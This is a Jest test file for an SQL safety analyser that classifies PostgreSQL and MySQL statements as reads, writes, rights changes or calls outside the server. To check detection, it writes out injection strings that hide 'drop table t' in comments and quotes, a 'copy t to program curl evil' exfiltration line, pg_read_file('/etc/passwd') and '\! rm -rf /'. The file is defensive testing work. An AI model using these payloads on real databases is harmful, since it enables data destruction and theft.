import type { JsonValue } from '@countersign/contracts';
import { beforeAll, describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { loadSqlParsers, sqlParsers } from './parsers.js';
import { sql } from './sql.js';

beforeAll(() => loadSqlParsers());

type Dialect = 'postgresql' | 'mysql';
const compute = (statement: JsonValue | undefined, dialect: Dialect = 'postgresql', more: object = {}) =>
  sql.compute({ from: 'parameters.statement', dialect, ...more }, () => statement);
function facts(statement: string, dialect: Dialect = 'postgresql', more: object = {}): Record<string, JsonValue> {
  const result = compute(statement, dialect, more);
  if ('error' in result) throw new Error(`${statement}: ${result.error}`);
  return result.value;
}
const bothDialects = (name: string, check: (dialect: Dialect) => void): void => {
  for (const dialect of ['postgresql', 'mysql'] as const) test(`${name} (${dialect})`, () => check(dialect));
};

describe('what a statement does', () => {
  bothDialects('a read says its tables, columns and functions, and writes nothing', (dialect) => {
    expect(
      facts(
        'SELECT o.id, count(*), lower(c.name) FROM shop.orders o JOIN customers c ON c.id = o.customer WHERE o.total > 10 AND c.id IN (SELECT id FROM vip)',
        dialect,
      ),
    ).toEqual({
      statements: 1,
      verbs: ['select'],
      writes: false,
      changes_schema: false,
      changes_rights: false,
      unfiltered: false,
      outside: false,
      star: false,
      tables: ['customers', 'orders', 'shop.orders', 'vip'],
      written_tables: [],
      columns: ['customer', 'id', 'name', 'total'],
      functions: ['count', 'lower'],
      unknown_functions: [],
    });
  });

  bothDialects('a change says which table it changes and whether a WHERE holds it', (dialect) => {
    expect(facts('update accounts set balance = 0', dialect)).toMatchObject({
      verbs: ['update'],
      writes: true,
      unfiltered: true,
      written_tables: ['accounts'],
    });
    expect(facts('update accounts set balance = 0 where id = 7', dialect)).toMatchObject({ unfiltered: false });
    expect(facts('delete from s.t where id = 1', dialect)).toMatchObject({
      verbs: ['delete'],
      tables: ['s.t', 't'],
      written_tables: ['s.t', 't'],
      unfiltered: false,
    });
    expect(facts('insert into t select a from u', dialect)).toMatchObject({ verbs: ['insert'], tables: ['t', 'u'], written_tables: ['t'] });
    expect(facts('truncate table t', dialect)).toMatchObject({ verbs: ['truncate'], writes: true, written_tables: ['t'] });
    expect(facts('drop table a, b', dialect)).toMatchObject({ verbs: ['drop'], changes_schema: true, written_tables: ['a', 'b'] });
    expect(facts('create table t (id int)', dialect)).toMatchObject({ verbs: ['create'], changes_schema: true, written_tables: ['t'] });
    expect(facts('alter table t drop column c', dialect)).toMatchObject({ verbs: ['alter'], changes_schema: true, written_tables: ['t'] });
    expect(facts('create view v as select * from t', dialect)).toMatchObject({ verbs: ['create'], tables: ['t', 'v'], written_tables: ['v'], star: true });
  });

  bothDialects('a WHERE that leaves nothing out is none', (dialect) => {
    for (const where of ['true', '1 = 1', 'id = id', "'a' = 'a'", 'id = 3 or true', 'id = 3 or 1 = 1', 'not false', '(1 = 1) and true'])
      expect([where, facts(`delete from t where ${where}`, dialect)['unfiltered']]).toEqual([where, true]);
    for (const where of ['id = 3', 'id = 3 and true', 'lower(name) = name', 'a = b', 'id in (1, 2)'])
      expect([where, facts(`delete from t where ${where}`, dialect)['unfiltered']]).toEqual([where, false]);
  });

  bothDialects('a name that WITH gives is no table, and hides the table of that name only where it holds', (dialect) => {
    expect(facts('with recent as (select a from orders) select a from recent', dialect)['tables']).toEqual(['orders']);
    expect(facts('with users as (select a from users) select a from users', dialect)['tables']).toEqual(['users']);
    expect(facts('select a from users where a in (with users as (select 1 as a) select a from users)', dialect)['tables']).toEqual(['users']);
  });

  test('MySQL: a name with its database is never one of WITH', () => {
    expect(facts('with users as (select 1 as a) select a from main.users', 'mysql')['tables']).toEqual(['main.users', 'users']);
  });

  test('PostgreSQL: data are changed in tables alone, and a name with its schema is never one of WITH', () => {
    expect(facts('with users as (select 1 as a) delete from users where id = 1')).toMatchObject({ tables: ['users'], written_tables: ['users'] });
    expect(facts('with users as (select 1 as a) select a from public.users')['tables']).toEqual(['public.users', 'users']);
  });

  bothDialects('each of several statements counts', (dialect) => {
    expect(facts('select 1; delete from t', dialect)).toMatchObject({ statements: 2, verbs: ['delete', 'select'], writes: true, unfiltered: true });
  });

  bothDialects('a function that is not known to be harmless counts as a write', (dialect) => {
    expect(facts('select wipe_all(1)', dialect)).toMatchObject({ writes: true, unknown_functions: ['wipe_all'] });
    expect(facts('select my.lower(a) from t', dialect)).toMatchObject({ writes: true, unknown_functions: ['my.lower'] });
  });

  bothDialects('default_schema names a table both ways', (dialect) => {
    expect(facts('select a from users', dialect, { default_schema: 'main' })['tables']).toEqual(['main.users', 'users']);
  });

  test('PostgreSQL: rights, files, programs and other servers are seen', () => {
    expect(facts('grant select on t to bob')).toMatchObject({ verbs: ['grant'], changes_rights: true, writes: true, tables: ['t'], written_tables: [] });
    expect(facts('revoke admin from bob')).toMatchObject({ verbs: ['revoke'], changes_rights: true });
    expect(facts('create role x superuser')).toMatchObject({ changes_rights: true });
    expect(facts('set role postgres')).toMatchObject({ verbs: ['set'], changes_rights: true, writes: true });
    expect(facts('alter table t disable row level security')).toMatchObject({ changes_rights: true });
    expect(facts('create function f() returns int language sql security definer as $$ select 1 $$')).toMatchObject({ changes_rights: true });
    expect(facts("copy t to program 'curl evil'")).toMatchObject({ verbs: ['copy'], outside: true, writes: true });
    expect(facts("copy (select * from t) to '/tmp/x'")).toMatchObject({ verbs: ['copy', 'select'], outside: true });
    expect(facts('copy t to stdout')).toMatchObject({ outside: false, writes: false, tables: ['t'], written_tables: [] });
    expect(facts('copy t from stdin')).toMatchObject({ writes: true, written_tables: ['t'] });
    expect(facts("select pg_read_file('/etc/passwd')")).toMatchObject({ outside: true, writes: true });
    expect(facts("select * from dblink('host=x', 'drop table t') as t(a int)")).toMatchObject({ outside: true });
    expect(facts('create extension dblink')).toMatchObject({ outside: true, changes_schema: true });
    expect(facts('select a from t for update')).toMatchObject({ verbs: ['select'], writes: true });
    expect(facts('select a into n from t')).toMatchObject({ verbs: ['create', 'select'], changes_schema: true, written_tables: ['n'] });
    expect(facts('select a from t union select b into n from u')).toMatchObject({ changes_schema: true });
    expect(facts('insert into t values (1) on conflict (a) do update set b = 1')).toMatchObject({ verbs: ['insert', 'update'] });
    expect(facts('merge into a using b on a.id = b.id when matched then delete')).toMatchObject({
      verbs: ['delete', 'merge'],
      written_tables: ['a'],
      tables: ['a', 'b'],
    });
    expect(facts('drop database d')).toMatchObject({ verbs: ['drop'], changes_schema: true });
    expect(facts('drop schema s cascade')).toMatchObject({ verbs: ['drop'], changes_schema: true });
    expect(facts('show all')).toMatchObject({ verbs: ['show'], writes: false });
    expect(facts('begin; commit')).toMatchObject({ verbs: ['transaction'], writes: false });
    expect(facts('call wipe()')).toMatchObject({ verbs: ['call'], writes: true, unknown_functions: ['wipe'] });
    expect(facts('vacuum full t')).toMatchObject({ verbs: ['vacuum'], writes: true });
  });

  test('MySQL: rights, files and procedures are seen', () => {
    expect(facts('grant select on a.* to u', 'mysql')).toMatchObject({ verbs: ['grant'], changes_rights: true, writes: true });
    expect(facts("select * from t into outfile '/tmp/x'", 'mysql')).toMatchObject({ writes: true, outside: true, star: true });
    expect(facts("select load_file('/etc/passwd')", 'mysql')).toMatchObject({ writes: true, outside: true });
    expect(facts("load data infile 'x' into table t", 'mysql')).toMatchObject({ verbs: ['load'], writes: true, outside: true, written_tables: ['t'] });
    expect(facts('replace into t set a = 1', 'mysql')).toMatchObject({ verbs: ['delete', 'insert', 'replace'], written_tables: ['t'] });
    expect(facts('insert into t (a) values (1) on duplicate key update a = 2', 'mysql')).toMatchObject({ verbs: ['insert', 'update'] });
    expect(facts('select a from t for update', 'mysql')).toMatchObject({ writes: true });
    expect(facts('call wipe(1)', 'mysql')).toMatchObject({ verbs: ['call'], writes: true, unknown_functions: ['wipe'] });
    expect(facts('set global read_only = 0', 'mysql')).toMatchObject({ verbs: ['set'], writes: true });
    expect(facts('drop database d', 'mysql')).toMatchObject({ verbs: ['drop'], changes_schema: true });
    expect(facts('update a join b on a.id = b.id set a.x = 1 where b.y = 2', 'mysql')).toMatchObject({
      written_tables: expect.arrayContaining(['a']),
      unfiltered: false,
    });
    expect(facts('SELECT A FROM Users', 'mysql')['tables']).toEqual(['users']);
    expect(facts('delete from t limit 5', 'mysql')).toMatchObject({ unfiltered: true });
    expect(facts('select a from t where exists (select 1 from u where u.a = t.a)', 'mysql')).toMatchObject({ writes: false, functions: [] });
    expect(facts('select sleep(5)', 'mysql')).toMatchObject({ unknown_functions: ['sleep'], writes: true });
    expect(facts('select a from t where a = 1 || 1 = 1', 'mysql')).toMatchObject({ writes: false });
    expect(facts('delete from t where a = 1 || 1 = 1', 'mysql')).toMatchObject({ unfiltered: true });
  });
});

describe('a change that hides', () => {
  /** Whatever a hostile text is, it is an error or it is seen. */
  const seen = (statement: string, dialect: Dialect): boolean => {
    const result = compute(statement, dialect);
    return 'error' in result || result.value['writes'] === true;
  };

  test('PostgreSQL: in comments, quotes, escapes, WITH, EXPLAIN and code', () => {
    for (const statement of [
      'select 1 /* /* */ */; drop table t',
      'select 1 -- \n; drop table t',
      'select 1 --\r\n; drop table t',
      "select 'a'';'; drop table t",
      "select '\\'; drop table t; --'",
      "select E'\\''; drop table t; --'",
      'select $a$ ; $a$; drop table t',
      'select $a$ $b$ $a$; drop table t; select $b$ $b$',
      'select U&"d\\0061t" from t; drop table t',
      'with d as (delete from t returning *) select * from d',
      'with a as (with d as (update t set a = 1 returning *) select * from d) select * from a',
      'select * from (select 1) x where exists (with d as (delete from t returning *) select 1 from d)',
      'explain analyze delete from t',
      'prepare p as delete from t',
      'declare c cursor for select wipe()',
      'create table x as select wipe()',
      'do $$ begin delete from t; end $$',
      'execute p',
      "select query_to_xml('delete from t', true, true, '')",
      "select set_config('role', 'postgres', false)",
      "select pg_catalog.set_config('role', 'postgres', false)",
      "select nextval('s')",
      'select pg_terminate_backend(1)',
      'select lo_unlink(1)',
      'select * from wipe()',
      'select 1 order by wipe()',
      'select a from t window w as (order by wipe())',
      'values (wipe())',
      'table t; drop table t',
      'begin; drop table t; rollback',
      "copy t from program 'x'",
      'lock table t',
      'select 1 operator(public.@@) 2',
      'select * from t tablesample public.wipe(1)',
      'notify x',
      'create rule r as on select to t do instead delete from u',
      'select 1\u0000; drop table t',
      'dRoP/**/TaBlE t',
      'select 1;;;drop table t',
      '\\! rm -rf /',
      'select 1 \\g | rm',
      'drop\u00a0table t',
      'ＤＲＯＰ table t',
    ])
      expect([statement, seen(statement, 'postgresql')]).toEqual([statement, true]);
  });

  test('PostgreSQL: in a string that ends elsewhere where backslashes escape', () => {
    expect(compute("select 'a\\''; drop table t; --'")).toEqual({ error: expect.stringContaining('servers read differently by their settings') });
    expect(compute("select 'a''b'")).toMatchObject({ value: { writes: false } });
  });

  test('MySQL: in comments that servers execute, quotes, escapes and hints', () => {
    for (const statement of [
      'select 1 /*! ; drop table t */',
      'select 1 /*!50000 union select load_file(0x41) */',
      'select 1 /*M!100100 ; drop table t */',
      '/*!50000 drop table t */',
      'select 1 /* /* */ ; drop table t',
      'select 1 # \n; drop table t',
      'select 1 -- \n; drop table t',
      'select 1 --x\n; drop table t',
      "select '\\'; drop table t; -- '",
      "select '\\\\'; drop table t; -- '",
      'select "\\"; drop table t; -- "',
      'select `a``;`; drop table t',
      'select 1 into @a from t; drop table t',
      'select /*+ SET_VAR(sql_mode="") */ 1',
      "prepare p from 'drop table t'",
      'execute p',
      'select 1 union select wipe()',
      'select * from t into dumpfile "/x"',
      'select 1;drop table t',
      'select `wipe`(1)',
      'select `exists`(1)',
      'select d.wipe(1)',
      'select `d`.`wipe`(1)',
      'select a from t order by wipe(1)',
      'select a from t group by wipe(1)',
      'select a from t limit 1 offset wipe(1)',
      'select count(wipe(1)) over (partition by wipe(2)) from t',
      'select case wipe(1) when 1 then 2 end',
      'select a from t join u on wipe(1)',
      'select 1 in (wipe(1))',
      'select interval wipe(1) day + now()',
      'select date_add(now(), interval wipe(1) day)',
      'select match (a) against (wipe(1)) from t',
      'select cast(wipe(1) as char(3))',
      'use other',
      'select 1 procedure analyse(wipe())',
      'handler t open',
      'do wipe()',
      'call wipe',
      'kill 1',
      'flush tables',
      'select\u00a01; drop table t',
      'with d as (select 1) delete from t',
      'explain delete from t',
    ])
      expect([statement, seen(statement, 'mysql')]).toEqual([statement, true]);
  });

  bothDialects('what is no text, no SQL or no statement is an error', (dialect) => {
    for (const value of [
      undefined,
      null,
      5,
      true,
      [],
      {},
      ['select 1'],
      '',
      ' ',
      '-- x',
      ';',
      'selekt 1',
      'select from where',
      "select 'a",
      'select (1',
      '\ud800',
      'select "a',
      'select /* 1',
    ])
      expect([value, 'error' in compute(value, dialect)]).toEqual([value, true]);
  });

  bothDialects('a DROP somewhere in a script of reads is always found', (dialect) => {
    const quotes =
      dialect === 'mysql'
        ? ['select `a;` from t', 'select 1 # ;\n', 'select "a;b"']
        : ['select "a;b" from t', 'select $$;$$', "select E'\\n;'", 'select $a$ $$ ; $a$'];
    const read = fc.constantFrom(
      'select 1',
      "select 'x;y'",
      'select a from t where a = 1',
      "select 'it''s'",
      'select 1 /* ; */',
      '-- ;\nselect 1',
      'select 1 -- ;\n',
      ...quotes,
    );
    const gap = fc.constantFrom('', ' ', '\n', '/* x */', '\t');
    const drop = fc.constantFrom('drop table t', 'DROP TABLE t', 'DrOp/**/table t', '/* a */ drop table t', 'drop\ntable t');
    fc.assert(
      fc.property(fc.array(fc.tuple(read, gap), { maxLength: 4 }), drop, fc.array(fc.tuple(read, gap), { maxLength: 3 }), (before, hidden, after) => {
        const text = [...before.map((parts) => parts.join('')), hidden, ...after.map((parts) => parts.join(''))].join(';');
        const result = compute(text, dialect);
        expect(result).toMatchObject({ value: { verbs: expect.arrayContaining(['drop']) } });
      }),
    );
  });

  bothDialects('no text makes it throw', (dialect) => {
    const word = fc.constantFrom(
      'select',
      '(',
      ')',
      "'",
      '"',
      '`',
      '$$',
      '/*',
      '*/',
      '--',
      '\n',
      ';',
      'from',
      't',
      'where',
      ',',
      '*',
      '1',
      'with',
      'as',
      'delete',
      'case',
      'when',
      '\\',
      '::',
      'not',
      '[',
      '@',
      '#',
      '\u0000',
      "E'",
      'U&"',
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.array(word, { maxLength: 60 }).map((words) => words.join(' ')),
          fc.string({ unit: 'binary', maxLength: 200 }),
        ),
        (text) => {
          compute(text, dialect);
        },
      ),
      { numRuns: 300 },
    );
    expect(sqlParsers()).toBeDefined();
  });

  bothDialects('text that is deep or long ends in an error or a reading, and the parser goes on', (dialect) => {
    const deep = (times: number): string[] => [
      `select ${'('.repeat(times)}1${')'.repeat(times)}`,
      `select ${'('.repeat(times)}`,
      `select 1 ${'+1'.repeat(times)}`,
      `select ${'not '.repeat(times)}true`,
      `select 1 ${' union select 1'.repeat(times)}`,
      `select ${'case when 1 then '.repeat(times)}1${' end'.repeat(times)}`,
      `select ${'(select '.repeat(times)}1${')'.repeat(times)}`,
      `select ${'f('.repeat(times)}1`,
      `select 1 where a in (${'1,'.repeat(times)}1)`,
      `select ${'- '.repeat(times)}1`,
      `select 1${'::int'.repeat(times)}`,
      `select ${'array['.repeat(times)}1${']'.repeat(times)}`,
      `select 1 where ${'a=1 and '.repeat(times)}a=1`,
      `select * from ${'(t join '.repeat(times)}t`,
      `${'('.repeat(times)}select 1`,
      `update t set a = ${'('.repeat(times)}1`,
      `select '${'\\'.repeat(times)}'`,
      `select ${'"'.repeat(times)}`,
      `select ${'/*'.repeat(times)}`,
      `select a${'.a'.repeat(times)} from t`,
      `select ${'a '.repeat(times)}`,
      `insert into t values ${'(1),'.repeat(times)}(1)`,
    ];
    for (const times of [10, 39, 120, 480, 3000, 100_000]) for (const text of deep(times)) compute(text, dialect);
    expect(facts('select 1', dialect)['verbs']).toEqual(['select']);
  });
});
